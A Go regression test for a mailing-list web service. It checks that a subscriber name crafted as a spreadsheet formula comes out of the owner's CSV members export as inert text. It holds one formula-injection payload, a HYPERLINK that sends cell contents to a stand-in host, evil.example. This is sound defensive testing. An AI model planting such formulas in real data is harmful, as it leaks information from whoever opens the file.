package web

import (
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"

	"cloister/internal/testdirs"
	"cloister/lists"
)

// TestAttackMemberExportFormula: against the daemon run as a process, a
// subscriber's name (which they choose) that is a spreadsheet formula
// reaches the owner's CSV export of the members as text: no cell starts
// with = + - @, so a spreadsheet opening the file runs nothing.
func TestAttackMemberExportFormula(t *testing.T) {
	testdirs.Slow(t, "runs cloister web as a process (built from cmd/cloister)")
	ws := newWebSite(t, TLSFiles{})
	ws.setSetting(t, "team@lists.test", "admin", "admin.owner_confirmed")
	payload := `=HYPERLINK("https://evil.example/?"&A2,"Click")`
	err := ws.Lists.Update(func(tx *lists.Tx) error {
		m, err := tx.Member("team@lists.test", "cat@subs.test")
		if err != nil {
			return err
		}
		m.Name = payload
		return tx.PutMember("team@lists.test", m)
	})
	if err != nil {
		t.Fatal(err)
	}
	base := ws.startDaemon(t)
	ann := ws.browser(t)
	ann.base = base
	ann.login("ann@subs.test")
	resp, err := ann.c.Get(base + "/lists/team@lists.test/members/export?format=csv")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("export: %d\n%s", resp.StatusCode, body)
	}
	recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, body)
	}
	found := false
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell starts a formula: %q", cell)
			}
			found = found || strings.Contains(cell, "HYPERLINK")
		}
	}
	if !found {
		t.Errorf("the name is missing from the export:\n%s", body)
	}
}
